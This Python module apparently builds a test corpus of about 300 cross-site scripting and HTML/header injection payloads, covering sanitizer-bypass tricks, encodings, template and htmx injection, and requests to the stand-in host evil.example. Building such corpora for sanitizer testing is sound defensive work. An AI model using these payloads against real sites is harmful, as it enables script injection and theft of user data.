"""In charge of: some 300 texts that try to become code, made from families of tricks.

Not in charge of: where they are put. Each would call `alert(1)` or ask `https://evil.example` if it ever ran.
"""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "alert(1)"
EVIL = "https://evil.example/x"
IMG = f"<img src=x onerror={RUN}>"

_SELF_STARTING = (  # elements whose handler runs without anybody's doing
    "img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "style onload",
    "iframe onload", "object data=x onerror", "embed src=x onerror", "input autofocus onfocus",
    "textarea autofocus onfocus", "select autofocus onfocus", "details open ontoggle", "marquee onstart",
    "video><source onerror", "a href=# autofocus tabindex=1 onfocus", "x-y autofocus tabindex=1 onfocus",
    "div style=animation-name:arrive;animation-duration:1s onanimationstart", "link rel=stylesheet href=x onerror",
    "image src=x onerror", "frameset onload", "input type=image src=x onerror",
)  # fmt: skip
_SEPARATORS = (" ", "\t", "\n", "\f", "/")
_QUOTES = ("", '"', "'", "`")
_SCRIPTS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<script>{RUN}", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=data:,{RUN}></script>", f"<script src={EVIL}></script>", f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>", f"<script\x00>{RUN}</script>", f"<scr\x00ipt>{RUN}</script>",
    f"<script>/*<!--*/{RUN}//--></script>", f"<script async src=data:text/javascript,{RUN}></script>",
)  # fmt: skip
_BREAKOUTS = (
    "{q} autofocus onfocus={run} x={q}", "{q}><script>{run}</script>", "{q}>{img}", "{q}/onload={run} x={q}",
    "{q}\nonmouseover={run}\n", "{q} style=animation-name:arrive onanimationstart={run} {q}", "{q};{run};//",
    "\\{q};{run}//", "{q}-{run}-{q}", "{q}></textarea>{img}", "{q}></title>{img}", "{q}></style>{img}",
)  # fmt: skip
_SVG = (
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x to=1></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{RUN} /><a id=x><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>{IMG}</svg>#x\"></svg>",
    f"<svg><foreignObject>{IMG}</foreignObject></svg>", f"<svg><style>{IMG}</style></svg>",
    f"<svg><title>{IMG}</title></svg>", f"<svg><desc>{IMG}</desc></svg>", f"<svg></p><style><a id=\"</style>{IMG}\">",
    f"<svg><image href={EVIL}></svg>", f"<svg><feImage href={EVIL} /></svg>", f"<svg/onload={RUN}//",
)  # fmt: skip
_MATH = (
    f"<math><a xlink:href=javascript:{RUN}>x</a></math>", f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{escape(IMG)}\">",
    f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
    f"<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea>{IMG}\">",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
)  # fmt: skip
_MUTATED = tuple(
    f'<{tag}><p title="</{tag}>{IMG}"></{tag}>'
    for tag in ("noscript", "style", "title", "textarea", "xmp", "template", "noembed", "noframes", "iframe", "script")
)
_MUTATED_TOO = (
    f"<iframe srcdoc='{IMG}'></iframe>", f"<iframe srcdoc=\"{escape(IMG)}\"></iframe>", f"<plaintext>{IMG}",
    f"<table><td background={EVIL}>", f"<select><template><style><!--</style><a rel=\"--></style>{IMG}\">",
    f"<a><b><a><b>{IMG}", f"<p><table><p>{IMG}</table>", f"<option><style></option></select><b>{IMG}</style>",
)  # fmt: skip
_ENCODED = (
    escape(IMG), escape(escape(IMG)), quote(IMG), quote(quote(IMG)), IMG.replace("<", "&#60;").replace(">", "&#62;"),
    IMG.replace("<", "&#x3c;"), IMG.replace("<", "&#0000060"), IMG.replace("<", "\\u003c"), IMG.replace("<", "\\x3c"),
    IMG.replace("<", "＜").replace(">", "＞"), IMG.replace("<", "‹"), f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<img\u200bsrc=x onerror={RUN}>", f"<\u2028img src=x onerror={RUN}>", f"<img src=x onerror\u00a0={RUN}>",
    f"<img src=x on\x00error={RUN}>", f"\ufeff{IMG}", f"\u202e{IMG}", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\"&#x61;lert&lpar;1&rpar;\">", f"\x1b$B{IMG}\x1b(B", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<a href=&#106;&#97;&#118;&#97;script:{RUN}>x</a>", "&NewLine;&Tab;" + IMG, f"%00{IMG}", f"&#00;{IMG}",
)  # fmt: skip
_TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{''.__class__.mro()}}", "[[alert(1)]]",
    "{{ config }}", "{{{alert(1)}}}", "{{'<'|safe}}script>alert(1)</script>", "{% raw %}" + IMG + "{% endraw %}",
    f"<div hx-on:load={RUN} hx-get=/ hx-trigger=load>x</div>", f"<b hx-get={EVIL} hx-trigger=load>x</b>",
    f"<hx-partial hx-target=body hx-swap=innerHTML>{IMG}</hx-partial>", f"<i hx-sse:connect={EVIL}></i>",
    '<meta name=htmx-config content=\'{"extensions":"sse"}\'>', f"<b hx-vals=js:{RUN} hx-post=/ hx-trigger=load>x</b>",
    f"</li></ol></main>{IMG}", "<base href=https://evil.example/>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=stylesheet href={EVIL}>", f"<link rel=prefetch href={EVIL}>", f"<form action={EVIL}><button>x</button>",
    f"<button form=write formaction={EVIL}>x</button>", f"<input form=write name=text value={EVIL}>", "<div id=page>",
    "<img name=body><img name=cookie>", f"<form id=write action={EVIL}></form>", "<textarea>", "<!--", "</body></html>",
)  # fmt: skip
_SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f" javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript://x%0a{RUN}", f"vbscript:{RUN}", f"blob:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"view-source:javascript:{RUN}", f"https://x.example/\"onmouseover={RUN}//", f"https://x.example/'>{IMG}",
    f"https://x.example/{IMG}", f"https://javascript:{RUN}@x.example/",
    f"http://x.example/)\" onfocus={RUN} autofocus ",
)  # fmt: skip
_LINKS = ("{url}", "<a href='{url}'>x</a>", "<iframe src='{url}'></iframe>", "[x]({url})", "<form action='{url}'>x")
_CSS = (
    f"<style>*{{background:url({EVIL})}}</style>", f"<style>@import '{EVIL}';</style>", f"</style>{IMG}",
    f"<div style=\"background:url({EVIL})\">x</div>", f"<div style=\"width:expression({RUN})\">x</div>",
    f"<div style=\"-moz-binding:url({EVIL})\">x</div>",
    f"<div style=\"list-style-image:url(javascript:{RUN})\">x</div>",
    "<div style=\"position:fixed;inset:0;z-index:99\">x</div>", f"<b style=\"content:url({EVIL})\">x</b>",
    f"<style>@font-face{{font-family:x;src:url({EVIL})}}*{{font-family:x}}</style>", f"}}*{{background:url({EVIL})",
)  # fmt: skip
_COMMENTS = (
    f"<!-->{IMG}-->", f"<!--[if gte IE 4]>{IMG}<![endif]-->", f"<![CDATA[{IMG}]]>", f"<!--!>{IMG}-->", f"<!---->{IMG}",
    f"<?xml-stylesheet href=\"javascript:{RUN}\"?>", f"<!DOCTYPE x [<!ENTITY y '{RUN}'>]>&y;", f"--!>{IMG}",
    f"<!-- --!>{IMG}",
    f"<%{IMG}%>", f"</ {IMG}>", f"<!{IMG}>", f"<?{IMG}?>",
)  # fmt: skip
_HEADERS = (
    f"x\r\nContent-Type: text/html\r\n\r\n{IMG}", f"x\nBcc: a@evil.example\n\n{IMG}", f"=?utf-8?q?{quote(IMG)}?=",
    f"=?utf-7?q?+ADw-script+AD4-{RUN}+ADw-/script+AD4-?=", f"x\x85Subject: {IMG}", f"\"{IMG}\" <a@evil.example>",
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": tuple(f"<{e.replace(' ', s, 1)}={RUN}>" for e, s in product(_SELF_STARTING, _SEPARATORS)),
    "scripts": _SCRIPTS,
    "breakouts": tuple(b.format(q=q, run=RUN, img=IMG) for b, q in product(_BREAKOUTS, _QUOTES)),
    "svg": _SVG,
    "math": _MATH,
    "mutated": (*_MUTATED, *_MUTATED_TOO),
    "encoded": _ENCODED,
    "templates": _TEMPLATES,
    "links": tuple(link.format(url=url) for url, link in product(_SCHEMES, _LINKS)),
    "css": _CSS,
    "comments": _COMMENTS,
    "headers": _HEADERS,
}
PAYLOADS = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))
SAMPLES = tuple(family[i] for family in FAMILIES.values() for i in (0, len(family) // 2, len(family) - 1))
